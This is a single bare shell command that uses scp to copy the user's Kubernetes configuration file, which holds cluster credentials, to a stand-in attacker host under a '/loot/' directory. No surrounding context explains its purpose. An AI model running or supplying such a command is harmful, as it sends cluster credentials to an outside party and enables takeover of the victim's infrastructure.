scp ~/.kube/config attacker@198.51.100.4:/loot/
